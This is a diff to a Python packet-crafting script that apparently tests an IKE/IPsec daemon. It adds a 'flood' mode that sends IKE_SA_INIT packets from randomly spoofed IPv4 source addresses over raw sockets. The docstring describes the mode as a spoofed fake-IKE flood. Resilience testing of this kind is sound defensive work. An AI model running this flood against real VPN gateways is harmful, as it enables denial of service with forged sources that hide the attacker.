@@ -6,10 +6,13 @@
                      [--rcookie HEX] [--exchange 34] [--count N] [--length N]
                      [--raw]
   ikepkt.py esp  DST [--proto 50|51] [--spi N] [--count N]
+  ikepkt.py flood DST --sources CIDR [--count N] [--dport 500]
   ikepkt.py junk DST [--dport 500] [--sport P] [--size N] [--count N]
                      [--seed N] [--kind random|truncated|biglen|keepalive]
 
 IPv6 when DST contains a colon. On port 4500 IKE gets the non-ESP marker.
+flood sends IKE_SA_INIT openings from random addresses of an IPv4 CIDR
+(IP_HDRINCL), each with a fresh SPI: a spoofed fake-IKE flood.
 --raw writes the UDP header itself, so that --sport may be a port another
 socket (charon's) holds: a spoofed packet from the client's own flow.
 """
@@ -73,6 +76,23 @@ def raw_udp(a, msg):
     return struct.pack("!HHHH", a.sport, a.dport, length, csum) + msg
 
 
+def send_flood(a):
+    net, bits = a.sources.split("/")
+    base = struct.unpack("!I", socket.inet_aton(net))[0]
+    size = 1 << (32 - int(bits))
+    first, hosts = (base + 1, size - 2) if size > 2 else (base, size)
+    rnd = random.Random(a.seed)
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for _ in range(a.count):
+        a.src = socket.inet_ntoa(struct.pack("!I", first + rnd.randrange(hosts)))
+        a.sport, a.icookie = rnd.randrange(1024, 65536), None
+        udp = raw_udp(a, ike_message(a))
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
+                         socket.IPPROTO_UDP, 0, socket.inet_aton(a.src),
+                         socket.inet_aton(a.dst))
+        s.sendto(ip + udp, (a.dst, 0))
+
+
 def send_ike(a):
     msg = ike_message(a)
     if a.raw:
@@ -118,7 +138,7 @@ def send_junk(a):
 
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("what", choices=["ike", "esp", "junk"])
+    p.add_argument("what", choices=["ike", "esp", "junk", "flood"])
     p.add_argument("dst")
     p.add_argument("--dport", type=int, default=500)
     p.add_argument("--src")
@@ -133,10 +153,12 @@ def main():
     p.add_argument("--size", type=int, default=64)
     p.add_argument("--seed", type=int, default=1)
     p.add_argument("--raw", action="store_true")
+    p.add_argument("--sources", default="203.0.113.0/24")
     p.add_argument("--kind", default="random",
                    choices=["random", "truncated", "biglen", "keepalive"])
     a = p.parse_args()
-    {"ike": send_ike, "esp": send_esp, "junk": send_junk}[a.what](a)
+    {"ike": send_ike, "esp": send_esp, "junk": send_junk,
+     "flood": send_flood}[a.what](a)
 
 
 if __name__ == "__main__":
